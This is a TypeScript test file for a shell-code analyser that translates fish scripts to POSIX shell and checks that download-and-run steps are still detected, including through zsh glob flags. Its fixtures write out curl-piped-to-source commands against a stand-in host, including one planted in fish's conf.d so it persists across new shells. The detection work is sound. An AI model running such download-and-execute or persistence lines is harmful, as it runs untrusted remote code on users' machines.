import { describe, expect, it } from 'vitest';
import { fishToPosix } from '../../../src/analysis/code/shell/fish.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Shell dialects the bash grammar cannot read as written: fish scripts (translated line for line into the
 * POSIX shell they mean) and zsh glob flags (blanked). The download-and-run must be seen through them, and
 * the translation must keep every line where it was.
 */

const downloadRuns = async (code: string) =>
  ofKind(await factsOf('shell', code), 'execute').filter((e) => e.code.taints.includes('download'));

describe('fish read as POSIX shell', () => {
  it('keeps the lines, and spells blocks, lists, substitutions and chains the POSIX way', () => {
    const fish = [
      'set -l tool (string join "" wg et) -q',
      'if not test -d $__fish_config_dir',
      '    echo missing; or echo $status',
      'else if set -q tool',
      '    for x in $tool[1] $argv[2]',
      '        echo "$tool" \\',
      "            'it\\'s'",
      '    end',
      'end',
      'function greet --description "hi"',
      '    echo $argv',
      'end',
    ].join('\n');
    const sh = fishToPosix(fish);
    expect(sh.split('\n')).toEqual([
      'tool=( $(printf %s wg "" et) -q)',
      'if ! test -d $HOME/.config/fish; then',
      '    echo missing || echo $?',
      'elif : tool; then',
      '    for x in ${tool[0]} ${2}; do',
      '        echo "${tool[*]}" \\',
      "            'it'\\''s'",
      '    done',
      'fi',
      'greet() {',
      '    echo $@',
      '}',
    ]);
  });

  it('a download piped to `source` runs it; one written into conf.d runs in every new fish', async () => {
    const fish = 'set -l get curl -fsSL\n$get https://kit.shell-relay.net/a.fish | source\n';
    expect(await downloadRuns(fishToPosix(fish))).toHaveLength(1);
    const planted = [
      'set -l d $__fish_config_dir/conf.d',
      "printf '%s\\n' 'abbr -a g git' 'curl -fsS https://kit.shell-relay.net/b.fish | source' > $d/kit.fish",
    ].join('\n');
    const r = await factsOf('shell', fishToPosix(planted));
    expect(ofKind(r, 'write').map((w) => w.cls)).toEqual(['shell-rc']);
    expect(ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'))).toHaveLength(1);
  });

  it('`source FILE` and abbreviations written to conf.d run nothing downloaded', async () => {
    const fish =
      'source ~/.config/fish/local.fish\nprintf "abbr -a t npm test\\n" > ~/.config/fish/conf.d/t.fish\n';
    expect(await downloadRuns(fishToPosix(fish))).toEqual([]);
  });
});

describe('zsh glob flags', () => {
  it('a qualifier on the cache test does not hide the download sourced after it', async () => {
    const zsh = [
      'refresh() {',
      '  local f=$HOME/.cache/kit.zsh',
      '  if [[ ! -s $f || -n $f(#qN.mh+6) ]]; then',
      '    curl -fsS -o $f https://kit.shell-relay.net/k.zsh',
      '  fi',
      '  source $f',
      '}',
    ].join('\n');
    expect(await downloadRuns(zsh)).toHaveLength(1);
  });

  it('sourcing local files picked with a qualifier is not a download', async () => {
    expect(await downloadRuns('for f in ~/.zsh/*.zsh(#qN.om); do source $f; done\n')).toEqual([]);
  });
});
